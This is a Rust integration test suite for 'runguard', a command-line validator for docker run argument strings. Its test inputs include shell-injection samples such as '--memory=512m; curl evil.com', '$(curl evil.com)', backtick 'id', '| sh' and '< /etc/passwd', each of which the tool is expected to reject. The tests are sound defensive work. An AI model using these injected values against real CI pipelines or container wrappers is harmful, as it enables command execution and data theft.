//! Integration tests for runguard

mod cli_tests {
    use assert_cmd::{cargo::cargo_bin_cmd, Command};
    use predicates::prelude::*;
    use tempfile::TempDir;

    /// Isolated from the user's config and any surrounding CI job
    fn runguard() -> Command {
        let mut cmd = cargo_bin_cmd!("runguard");
        cmd.args(["--no-local", "--config", "/nonexistent/runguard/config.toml"])
            .env_remove("INPUT_DOCKER-RUN-ARGS")
            .env_remove("RUNGUARD_CONFIG")
            .env_remove("GITHUB_ACTIONS")
            .env_remove("GITHUB_OUTPUT")
            .env_remove("CI");
        cmd
    }

    /// Same isolation, but leaves `--config` free for the test to supply
    fn runguard_without_config() -> Command {
        let mut cmd = cargo_bin_cmd!("runguard");
        cmd.arg("--no-local")
            .env_remove("INPUT_DOCKER-RUN-ARGS")
            .env_remove("RUNGUARD_CONFIG")
            .env_remove("GITHUB_ACTIONS")
            .env_remove("GITHUB_OUTPUT")
            .env_remove("CI");
        cmd
    }

    #[test]
    fn help_displays() {
        runguard()
            .arg("--help")
            .assert()
            .success()
            .stdout(predicate::str::contains("Validate a docker run argument string"));
    }

    #[test]
    fn version_displays() {
        runguard()
            .arg("--version")
            .assert()
            .success()
            .stdout(predicate::str::contains("runguard"));
    }

    #[test]
    fn validate_accepts_resource_flags() {
        runguard()
            .args(["validate", "--", "--memory=512m --cpu-shares=512"])
            .assert()
            .success()
            .stdout(predicate::str::contains("[OK]"))
            .stdout(predicate::str::contains("2 tokens"));
    }

    #[test]
    fn validate_accepts_short_flag() {
        runguard()
            .args(["validate", "--", "-m 512m"])
            .assert()
            .success();
    }

    #[test]
    fn validate_empty_accepts() {
        runguard().args(["validate", "--", ""]).assert().success();
    }

    #[test]
    fn validate_empty_action_input_accepts() {
        runguard()
            .arg("validate")
            .env("INPUT_DOCKER-RUN-ARGS", "")
            .assert()
            .success()
            .stdout(predicate::str::contains("0 tokens"));
    }

    #[test]
    fn validate_missing_input_fails() {
        runguard()
            .arg("validate")
            .assert()
            .failure()
            .code(1)
            .stderr(predicate::str::contains("No docker run arguments given"));
    }

    #[test]
    fn validate_long_option_lookalike_fails() {
        runguard_without_config()
            .args(["validate", "--config=/nonexistent/x;curl evil.com"])
            .assert()
            .failure()
            .code(1)
            .stdout(predicate::str::contains("[OK]").not());
    }

    #[test]
    fn validate_short_option_lookalike_fails() {
        runguard_without_config()
            .args(["validate", "-c/x;id"])
            .assert()
            .failure()
            .code(1)
            .stderr(predicate::str::contains("No docker run arguments given"))
            .stdout(predicate::str::contains("[OK]").not());
    }

    #[test]
    fn argv_option_lookalike_prints_nothing() {
        runguard_without_config()
            .args(["argv", "-c/x;id"])
            .assert()
            .failure()
            .stdout(predicate::str::is_empty());
    }

    #[test]
    fn validate_requires_separator_for_input() {
        runguard()
            .args(["validate", "--memory=512m; curl evil.com"])
            .assert()
            .failure();
    }

    #[test]
    fn verbose_shows_config_loading() {
        runguard()
            .args(["-vv", "validate", "--", "--rm"])
            .assert()
            .success()
            .stderr(predicate::str::contains("Config file not found, using defaults"));
    }

    #[test]
    fn validate_rejects_semicolon() {
        runguard()
            .args(["validate", "--", "--memory=512m; curl evil.com"])
            .assert()
            .failure()
            .code(1)
            .stderr(predicate::str::contains("'--memory=512m;'"))
            .stderr(predicate::str::contains("command chaining"))
            .stderr(predicate::str::contains("Hint:"));
    }

    #[test]
    fn validate_rejects_redirection() {
        runguard()
            .args(["validate", "--", "--memory < /etc/passwd"])
            .assert()
            .failure()
            .stderr(predicate::str::contains("unsafe redirection"));
    }

    #[test]
    fn validate_rejects_malformed_flag() {
        runguard()
            .args(["validate", "--", "--mem@ry=512m"])
            .assert()
            .failure()
            .stderr(predicate::str::contains("malformed flag syntax"));
    }

    #[test]
    fn validate_reads_action_input_env() {
        runguard()
            .arg("validate")
            .env("INPUT_DOCKER-RUN-ARGS", "--env=${HOME}/malicious")
            .assert()
            .failure()
            .stderr(predicate::str::contains("shell variable expansion"));
    }

    #[test]
    fn validate_json_accept() {
        runguard()
            .args(["validate", "--format", "json", "--", "-m 512m"])
            .assert()
            .success()
            .stdout(predicate::str::contains(r#""verdict":"accept""#))
            .stdout(predicate::str::contains(r#""args":["-m","512m"]"#));
    }

    #[test]
    fn validate_json_reject() {
        runguard()
            .args(["validate", "--format", "json", "--", "--memory=$(curl evil.com)"])
            .assert()
            .failure()
            .stdout(predicate::str::contains(r#""verdict":"reject""#))
            .stdout(predicate::str::contains(r#""rule":"command-chaining""#));
    }

    #[test]
    fn validate_writes_github_outputs() {
        let temp = TempDir::new().unwrap();
        let output = temp.path().join("github_output");

        runguard()
            .args(["validate", "--", "--rm -p 8443:443"])
            .env("GITHUB_OUTPUT", &output)
            .assert()
            .success();

        let content = std::fs::read_to_string(&output).unwrap();
        assert!(content.contains("valid=true\n"));
        assert!(content.contains(r#"args=["--rm","-p","8443:443"]"#));
    }

    #[test]
    fn validate_emits_annotation_on_github() {
        let temp = TempDir::new().unwrap();
        let output = temp.path().join("github_output");

        runguard()
            .args(["validate", "--", "a|b"])
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_OUTPUT", &output)
            .assert()
            .failure()
            .stdout(predicate::str::contains(
                "::error title=Invalid docker-run-args::Rejected token 'a|b'",
            ));

        let content = std::fs::read_to_string(&output).unwrap();
        assert!(content.contains("valid=false\n"));
        assert!(content.contains("rejected-token=a|b\n"));
        assert!(content.contains("rule=command-chaining\n"));
    }

    #[test]
    fn argv_prints_one_token_per_line() {
        runguard()
            .args(["argv", "--", "  -m   512m --rm "])
            .assert()
            .success()
            .stdout("-m\n512m\n--rm\n");
    }

    #[test]
    fn argv_null_terminated() {
        runguard()
            .args(["argv", "--null", "--", "-m 512m"])
            .assert()
            .success()
            .stdout("-m\0512m\0");
    }

    #[test]
    fn argv_rejects_without_output() {
        runguard()
            .args(["argv", "--", "-m 512m `id`"])
            .assert()
            .failure()
            .stdout(predicate::str::is_empty());
    }

    #[test]
    fn check_builtin_passes() {
        runguard()
            .arg("check")
            .assert()
            .success()
            .stdout(predicate::str::contains("failed: 0"));
    }

    #[test]
    fn check_case_file_reports_failures() {
        let temp = TempDir::new().unwrap();
        let cases = temp.path().join("cases.toml");
        std::fs::write(
            &cases,
            r#"
[[case]]
name = "pipe should pass (wrong on purpose)"
input = "-m 1g | sh"
expect = "accept"

[[case]]
input = "--rm"
expect = "accept"
"#,
        )
        .unwrap();

        runguard()
            .args(["check", "--cases"])
            .arg(&cases)
            .assert()
            .failure()
            .stdout(predicate::str::contains("[FAIL]"))
            .stdout(predicate::str::contains("expected accept"))
            .stderr(predicate::str::contains("1 of 2 validation cases failed"));
    }

    #[test]
    fn rules_lists_in_order() {
        runguard()
            .arg("rules")
            .assert()
            .success()
            .stdout(predicate::str::contains("1. command-chaining"))
            .stdout(predicate::str::contains("4. malformed-flag"));
    }

    #[test]
    fn config_show() {
        runguard()
            .args(["config", "show"])
            .assert()
            .success()
            .stdout(predicate::str::contains("[general]"))
            .stdout(predicate::str::contains("[output]"));
    }

    #[test]
    fn config_path() {
        runguard()
            .args(["config", "path"])
            .assert()
            .success()
            .stdout(predicate::str::contains("config.toml"));
    }

    #[test]
    fn config_file_sets_output_format() {
        let temp = TempDir::new().unwrap();
        let config = temp.path().join("config.toml");
        std::fs::write(&config, "[output]\nformat = \"json\"\n").unwrap();

        let mut cmd = cargo_bin_cmd!("runguard");
        cmd.arg("--no-local")
            .arg("--config")
            .arg(&config)
            .args(["validate", "--", "--rm"])
            .env_remove("GITHUB_OUTPUT")
            .assert()
            .success()
            .stdout(predicate::str::contains(r#""verdict":"accept""#));
    }

    #[test]
    fn completions_bash() {
        runguard()
            .args(["completions", "bash"])
            .assert()
            .success()
            .stdout(predicate::str::contains("runguard"));
    }
}
